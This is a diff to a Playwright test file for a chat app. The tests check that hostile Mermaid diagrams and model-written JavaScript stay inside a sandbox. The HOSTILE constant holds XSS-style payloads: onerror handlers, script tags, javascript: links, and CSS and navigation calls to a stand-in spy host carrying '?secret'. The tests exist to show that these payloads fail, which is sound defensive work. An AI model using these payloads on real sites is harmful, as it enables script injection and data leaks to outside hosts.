@@ -4,9 +4,12 @@ from __future__ import annotations
 
 import json
 import re
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
-from browsing import Visit
+from browsing import Visit, read_sent
 from chatting import COMPLETIONS, answer_with, answers, ask, open_settings, send, set_up, wait_for_answer
 from page_server import PageServer
 from playwright.sync_api import Frame, Locator, Page, expect
@@ -20,13 +23,13 @@ DIAGRAMS = (
     'pie\n  "Dogs" : 3\n  "Cats" : 2',
 )
 WRONG = "flowchart LR\n  A[Start --> ???"
-HOSTILE = """%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(https://spy.example/css) }"}}%%
+HOSTILE = """%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(SPY/css) }"}}%%
 flowchart TD
-  A["<img src='https://spy.example/x.png' onerror='top.ran = 1'>"] --> B["<script>top.ran = 1</script>"]
+  A["<img src='SPY/x.png' onerror='top.ran = 1'>"] --> B["<script>top.ran = 1</script>"]
   B --> C["<a href='javascript:top.ran = 1'>here</a>"]
   click A "javascript:top.ran = 1"
   click B call ran()
-  click C "https://spy.example/" _top"""
+  click C "SPY/" _top"""
 
 # What a program in the frame could try, if one could be smuggled into it.
 ESCAPES = """async (origin) => {
@@ -85,21 +88,38 @@ def test_diagrams_are_drawn_and_a_wrong_one_shows_its_source(page: Page) -> None
     expect(drawings(last).first).not_to_have_attribute("src", light or "")
 
 
-def test_hostile_diagrams_do_nothing_and_the_sandbox_is_shut(visit: Visit) -> None:
-    page = visit.page
-    answer = show(page, HOSTILE)
+@pytest.fixture
+def spy() -> Iterator[tuple[str, list[str]]]:
+    """A server of somebody else, and what it was asked for."""
+    asked: list[str] = []
+
+    class Spy(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_error(404)
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Spy) as site:
+        threading.Thread(target=site.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{site.server_port}", asked
+        site.shutdown()
+
+
+def test_hostile_diagrams_do_nothing_and_the_sandbox_is_shut(visit: Visit, spy: tuple[str, list[str]]) -> None:
+    page, (address, asked) = visit.page, spy
+    answer = show(page, HOSTILE.replace("SPY", address))
     place = drawings(answer).or_(answer.get_by_text("This diagram cannot be drawn"))
     expect(place).to_be_visible()
     place.click()
     frame = sandbox_of(page)
     assert frame.evaluate(ESCAPES, visit.origin) == REFUSED
-    frame.evaluate("() => { location.href = 'https://spy.example/?secret'; }")
+    frame.evaluate("(address) => { location.href = `${address}/?secret`; }", address)
     page.wait_for_timeout(300)
     assert page.evaluate("() => [window.ran, document.querySelector('article script, article svg a')]") == [None, None]
     assert page.url.startswith(visit.origin)
     assert len(page.context.pages) == 1
-    assert not [url for url in visit.foreign_requests if not url.startswith("chrome-error:")]
+    assert asked == [], "what a diagram names is not fetched"
     visit.faults.clear()  # the browser's words about what it refused
+    visit.requests.clear()
 
 
 def _call(page: Page, *programs: str) -> None:
@@ -123,7 +143,7 @@ def test_programs_of_the_model_run_in_the_sandbox_once_they_are_confirmed(page: 
     expect(page.get_by_role("region", name="Call of run_javascript")).to_contain_text("6 * 7")
     with page.expect_request(COMPLETIONS) as asked:
         page.get_by_role("button", name="Run once in the sandbox").click()
-    assert json.loads(asked.value.post_data or "{}")["messages"][-1]["content"] == "42"
+    assert read_sent(asked.value)["messages"][-1]["content"] == "42"
     wait_for_answer(page)
     expect(settings.get_by_label("Run JavaScript without asking me")).not_to_be_checked()
     _call(page, "1")
@@ -131,19 +151,20 @@ def test_programs_of_the_model_run_in_the_sandbox_once_they_are_confirmed(page: 
     expect(page.get_by_role("article", name="Result of run_javascript").last).to_contain_text("declined")
     wait_for_answer(page)
     settings.get_by_label("Run JavaScript without asking me").check()
-    with page.expect_request(lambda request: "c7" in (request.post_data or "")) as asked:
-        _call(
-            page,
-            "const x = [];\nfor (let i = 0; i < 3; i++) x.push(i);\nconsole.log(x, { a: 1n });\nreturn x.length",
-            "for (;;) {}",
-            f"fetch('{server.url}/v1/models').then(() => 'reached', (error) => error.name)",
-            "for (;;) console.log('x'.repeat(1000))",
-            f"try {{ importScripts('{server.url}/docs.js') }} catch (error) {{ return error.name }}",
-            "[typeof document, typeof localStorage, typeof parent, self.origin]",
-            "throw new RangeError('no')",
-            "nonsense(",
-        )
-    told = [m["content"] for m in json.loads(asked.value.post_data or "{}")["messages"] if m["role"] == "tool"][2:]
+    _call(
+        page,
+        "const x = [];\nfor (let i = 0; i < 3; i++) x.push(i);\nconsole.log(x, { a: 1n });\nreturn x.length",
+        "for (;;) {}",
+        f"fetch('{server.url}/v1/models').then(() => 'reached', (error) => error.name)",
+        "for (;;) console.log('x'.repeat(1000))",
+        f"try {{ importScripts('{server.url}/docs.js') }} catch (error) {{ return error.name }}",
+        "[typeof document, typeof localStorage, typeof parent, self.origin]",
+        "throw new RangeError('no')",
+        "nonsense(",
+    )
+    with page.expect_request(COMPLETIONS) as asked:  # when the endless program has been stopped
+        pass
+    told = [m["content"] for m in read_sent(asked.value)["messages"] if m["role"] == "tool"][2:]
     assert told[:3] == ['[0,1,2] {"a":"1n"}\n3', "Error: It was stopped after 4 s.", "TypeError"]
     assert told[3].startswith("xxx")
     assert told[3].endswith("(cut)")
